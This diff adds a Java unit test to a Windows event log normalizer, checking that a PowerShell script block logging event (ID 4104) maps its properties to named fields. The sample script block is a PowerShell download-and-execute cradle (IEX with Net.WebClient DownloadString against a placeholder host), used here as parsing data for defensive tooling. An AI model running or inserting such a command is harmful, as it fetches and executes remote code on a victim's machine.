@@ -135,6 +135,17 @@ class NormalizerTest {
   }
 
   @Test
+  void aGetWinEventScriptBlockTakesItsNames() {
+    Event e = normalizer.normalize(json("Id", 4104L, "ProviderName", "Microsoft-Windows-PowerShell",
+        "LogName", "Microsoft-Windows-PowerShell/Operational", "MachineName", "WS1", "Properties.Value", 1L,
+        "Properties.Value", 1L, "Properties.Value", "IEX (New-Object Net.WebClient).DownloadString('http://x/a')",
+        "Properties.Value", "285fc71a-1d15-482e-8122-177248f5d0ab", "Properties.Value", ""));
+    assertTrue(hasRaw(e, "ScriptBlockText", "IEX (New-Object Net.WebClient).DownloadString('http://x/a')"));
+    assertTrue(hasRaw(e, "ScriptBlockId", "285fc71a-1d15-482e-8122-177248f5d0ab"));
+    assertFalse(hasRaw(e, "Properties.Value", "1"));
+  }
+
+  @Test
   void aProcessIdNoNumberReadsStaysARawFieldAsWritten() {
     Event e = normalizer.normalize(json("EventID", 4688L, "Channel", "Security", "Hostname", "WS1",
         "NewProcessId", "0xZZ", "ProcessId", "0x21c8", "NewProcessName", "C:\\Windows\\System32\\cmd.exe"));
